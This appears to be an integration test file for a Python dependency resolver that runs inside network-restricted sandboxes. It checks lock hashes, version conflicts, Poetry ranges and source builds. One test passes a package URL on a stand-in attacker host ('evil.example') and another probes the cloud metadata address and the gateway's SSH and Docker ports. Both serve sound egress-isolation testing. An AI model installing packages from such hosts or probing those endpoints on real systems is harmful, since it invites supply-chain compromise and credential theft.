// With the real engine, the real resolver and the real package index.
import { filesFromMap } from '@gantry/project/agent-project.ts';
import { readDependencies } from '@gantry/project/dependencies/read-dependencies.ts';
import { resolverLines } from '@gantry/project/dependencies/resolver-lines.ts';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { testConfig } from '../../../testing/config.ts';
import { removeLeftovers } from '../../../testing/engine-leftovers.ts';
import { requirementLines } from '../../../testing/pushes/requirement-lines.ts';
import { resolveRequirements, type ResolveInput } from './resolve.ts';
import type { Sandboxes } from '../sandboxes.ts';
import { testInstallation } from '../test-installation.ts';
import { uvPath } from '../uv.ts';

const { engine, open } = testInstallation(testConfig());
const refusedHosts: string[] = [];
let sandboxes: Sandboxes;

beforeAll(async () => {
  sandboxes = await open({ source_distributions: 'allow' }, (host) => refusedHosts.push(host));
}, 180_000);
afterAll(async () => {
  await sandboxes?.close();
  await removeLeftovers(engine);
});

const signal = () => AbortSignal.timeout(120_000);

function resolve(text: string, changes: Partial<ResolveInput> = {}, on = sandboxes) {
  return resolveRequirements(on, {
    team_id: 'team-1',
    requirements: requirementLines(text),
    platform_requirements: ['httpx>=0.27.0'],
    signal: signal(),
    ...changes,
  });
}

test("the user's and the platform's requirements become one lock with hashes", async () => {
  const { lock, packages, built_from_source, python_version } = await resolve('# mine\nidna==3.10\n');
  expect(packages).toContainEqual({ name: 'idna', version: '3.10' });
  expect(packages.map(({ name }) => name)).toEqual(expect.arrayContaining(['httpx', 'anyio', 'certifi']));
  expect(lock).toMatch(/^idna==3\.10 \\\n {4}--hash=sha256:[0-9a-f]{64}/m);
  expect(built_from_source).toEqual([]);
  expect(python_version).toBe(sandboxes.facts.python_version);
}, 120_000);

test('a project without requirements gets the packages of the platform', async () => {
  expect((await resolve('')).packages.map(({ name }) => name)).toContain('httpx');
}, 120_000);

test('the versions of a lock bind needed packages, and add none', async () => {
  const constraints = requirementLines(
    'idna==3.9\nsix==1.16.0\ncertifi==2024.8.30 ; sys_platform == "linux"\n',
    'uv.lock',
  );
  const { packages } = await resolve('', { constraints });
  expect(packages).toContainEqual({ name: 'idna', version: '3.9' });
  expect(packages).toContainEqual({ name: 'certifi', version: '2024.8.30' });
  expect(packages.map(({ name }) => name)).not.toContain('six');
}, 120_000);

test('a locked version outside the project’s own range is a conflict that names both places', async () => {
  await expect(
    resolve('idna>=3.10\n', { constraints: requirementLines('idna==3.9\n', 'uv.lock') }),
  ).rejects.toMatchObject({
    code: 'dependency_conflict',
    hint: 'Lock it again: uv lock --upgrade-package idna',
    fields: {
      packages: ['idna'],
      required_by: [
        { source: 'requirements.txt:1', spec: 'idna>=3.10' },
        { source: 'uv.lock:1', spec: 'idna==3.9' },
      ],
    },
  });
}, 60_000);

test("Poetry's version ranges have Poetry's meaning", async () => {
  const text =
    '[tool.poetry.dependencies]\npython = "^3.9"\nidna = "~3.6"\nsix = { version = "^1.15", python = ">=3.9" }\n';
  const { packages } = await resolve(
    '',
    resolverLines(readDependencies(filesFromMap(new Map([['pyproject.toml', text]])))),
  );
  expect(packages).toContainEqual({ name: 'idna', version: '3.6' });
  expect(packages.map(({ name }) => name)).toContain('six');
}, 120_000);

test('a package with an address is refused, even an address of the index itself', async () => {
  const { stdout } = await sandboxes.run({
    command: [
      'python3',
      '-m',
      'pip',
      'install',
      '--quiet',
      '--dry-run',
      '--ignore-installed',
      '--no-deps',
      '--report',
      '-',
      'idna==3.10',
    ],
    signal: signal(),
  });
  const url = /"url": "([^"]+)"/.exec(stdout)?.[1] ?? '';
  expect(url).toMatch(/^https?:.*\.whl$/);
  await expect(resolve(`idna @ ${url}\n`)).rejects.toMatchObject({
    code: 'project_invalid',
    fields: { lines: [`idna @ ${url}`] },
  });
}, 120_000);

test("a range without the platform's version is a conflict that names both sides", async () => {
  await expect(resolve('idna\nhttpx<0.20\n')).rejects.toMatchObject({
    code: 'dependency_conflict',
    hint: 'Widen `httpx<0.20` (requirements.txt:2).',
    fields: {
      packages: ['httpx'],
      required_by: [
        { source: 'requirements.txt:2', spec: 'httpx<0.20' },
        { source: 'platform', spec: 'httpx>=0.27.0' },
      ],
      resolver: expect.stringContaining('httpx'),
    },
  });
}, 60_000);

test('a conflict deep in the graph names the package that causes it', async () => {
  const error: unknown = await resolve('httpcore==1.0.9\nh11==0.12.0\n').catch((thrown: unknown) => thrown);
  expect(error).toMatchObject({ code: 'dependency_conflict', fields: { packages: expect.arrayContaining(['h11']) } });
  expect(error).toMatchObject({
    fields: { required_by: expect.arrayContaining([{ source: 'requirements.txt:2', spec: 'h11==0.12.0' }]) },
  });
  expect(JSON.stringify(error)).toMatch(/"source":"httpcore[=>]=1\.0\.9","spec":"h11>=0\.16/);
}, 60_000);

test('an unpublished package is named', async () => {
  await expect(resolve('gantry-no-such-package-1\n')).rejects.toMatchObject({
    code: 'dependency_conflict',
    detail: 'The package index has no package gantry-no-such-package-1',
  });
}, 60_000);

test('a package without wheels is built with a throw-away cache, and is listed', async () => {
  const log: string[] = [];
  const { built_from_source, packages } = await resolve('docopt==0.6.2\n', { onLog: (line) => log.push(line) });
  expect(built_from_source).toEqual(['docopt']);
  expect(packages).toContainEqual({ name: 'docopt', version: '0.6.2' });
  expect(log).toContain('The package index has no wheel of docopt; resolving again with source distributions');
}, 120_000);

test('a refused source distribution is named', async () => {
  const strict = { ...sandboxes, settings: { ...sandboxes.settings, source_distributions: 'refuse' as const } };
  await expect(resolve('docopt==0.6.2\n', {}, strict)).rejects.toMatchObject({
    code: 'project_invalid',
    detail: 'The package index has no wheel of docopt, and this service builds no packages from source',
    hint: 'Choose a version of docopt that has a wheel, or ask an administrator to set BUILD_SOURCE_DISTRIBUTIONS=allow.',
  });
}, 60_000);

test('a package outside the index is not fetched, and its host is reported', async () => {
  await expect(resolve('evil @ https://evil.example/evil-1.0-py3-none-any.whl\n')).rejects.toMatchObject({
    code: 'index_unreachable',
  });
  expect(refusedHosts).toContain('evil.example:443');
}, 60_000);

test('a sandbox reaches only the index', async () => {
  const script = `
import socket, sys
for host, port in [("PROXY", 0), ("${sandboxes.facts.file_host}", 443), ("169.254.169.254", 80), ("GATEWAY", 22), ("GATEWAY", 2375), ("8.8.8.8", 53)]:
    address = "GATEWAY_ADDRESS" if host in ("PROXY", "GATEWAY") else host
    try:
        socket.create_connection((address, port or PROXY_PORT), 2).close()
        print(host, "open")
    except OSError:
        print(host, port, "closed")
`;
  const { stdout: proxy } = await sandboxes.run({ command: ['/bin/sh', '-c', 'echo $HTTPS_PROXY'], signal: signal() });
  const url = new URL(proxy.trim());
  const text = script.replaceAll('GATEWAY_ADDRESS', url.hostname).replaceAll('PROXY_PORT', url.port);
  const { stdout } = await sandboxes.run({ command: ['python3', '-c', text], signal: signal() });
  expect(stdout.trim().split('\n')).toEqual([
    'PROXY open',
    `${sandboxes.facts.file_host} 443 closed`,
    '169.254.169.254 80 closed',
    'GATEWAY 22 closed',
    'GATEWAY 2375 closed',
    '8.8.8.8 53 closed',
  ]);
  expect(sandboxes.egress).toEqual({
    siblings: { closed: true, by: 'inter-container traffic is off' },
    host: { closed: true, by: 'firewall rules' },
    metadata: { closed: true, by: 'internal network' },
    private_ranges: { closed: true, by: 'internal network' },
    outside: { closed: true, by: 'internal network' },
  });
}, 60_000);

test('an index that does not answer is refused with index_unreachable', async () => {
  // uv is already in its volume, so the opening needs no index, but a resolve does.
  const gone = await open({ index_url: 'https://index.invalid/simple' });
  await expect(resolve('idna\n', { team_id: 'team-2' }, gone)).rejects.toMatchObject({ code: 'index_unreachable' });
  await gone.close();
}, 120_000);

test('uv is available in its volume, not in the image', async () => {
  const { stdout } = await sandboxes.run({ command: [uvPath, '--version'], signal: signal() });
  expect(stdout).toMatch(/^uv \d/);
  const { exit_code } = await sandboxes.run({ command: ['/bin/sh', '-c', `touch ${uvPath}`], signal: signal() });
  expect(exit_code).not.toBe(0);
});

test('an aborted resolve ends at once', async () => {
  const stop = new AbortController();
  const running = resolve('langchain\nboto3\n', { signal: stop.signal });
  setTimeout(() => stop.abort(new Error('cancelled by a test')), 700);
  await expect(running).rejects.toThrow('cancelled by a test');
});
